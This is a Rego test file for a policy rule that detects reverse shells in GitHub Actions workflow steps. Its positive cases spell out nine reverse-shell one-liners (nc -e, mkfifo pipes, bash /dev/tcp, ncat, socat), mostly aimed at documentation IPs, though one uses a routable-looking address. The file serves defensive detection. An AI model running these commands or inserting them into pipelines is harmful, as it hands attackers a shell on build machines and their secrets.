package github_actions.netcat_reverse_shell_test

import data.github_actions.netcat_reverse_shell as rule
import data.lib.fix

_workflow(script) := {"on": "push", "jobs": {"build": {"steps": [{"run": script}]}}}

test_finds_shells_that_are_handed_over if {
	every script in [
		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 34.159.16.75 32032 >/tmp/f",
		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|netcat a.example 32032 >/tmp/f",
		"echo x\nnc -e /bin/bash 203.0.113.5 4444",
		"ncat 203.0.113.5 4444 --sh-exec=bash &",
		"ncat -nv 203.0.113.5 4444 -c 'bash -i'",
		"nc 203.0.113.5 4444 | sh",
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
		"bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
		"socat exec:'bash -li',pty,stderr tcp:203.0.113.5:4444",
	] {
		fix.bare(rule.deny) == {{
			"message": "job \"build\", step 1 hands a shell to another machine",
			"at": ["jobs", "build", "steps", 0, "run"],
		}} with input as _workflow(script)
	}
}

test_accepts_connections_without_a_shell if {
	every script in [
		"until nc -z 127.0.0.1 5432; do sleep 1; done",
		"nc -zv 10.0.0.5 22",
		"echo stats | nc 203.0.113.5 9999",
		"./report.sh | nc 203.0.113.5 9999",
		"bash report.sh | nc 203.0.113.5 9999",
		"sh -c 'make log' | nc termbin.com 9999",
		"nc -c 203.0.113.5 80 < request",
		"nc -l 8080 > out &\nbash -i",
		"echo x > /dev/tcp/127.0.0.1/8080",
		"exec 3<>/dev/tcp/localhost/8080",
		"timeout 5 bash -c '</dev/tcp/db/5432'",
		"bash -c 'echo > /dev/tcp/db/5432'",
		"socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
		"apt-get install -y netcat && sh -i",
		"# nc -e /bin/sh 203.0.113.5 4444",
	] {
		rule.deny == set() with input as _workflow(script)
	}
}

test_accepts_odd_shapes_and_other_kinds if {
	every file in [_workflow(null), _workflow(["nc -e sh"]), {"jobs": {"a": {"steps": ["nc"]}}}, {"kind": "Pod"}] {
		rule.deny == set() with input as file
	}
}
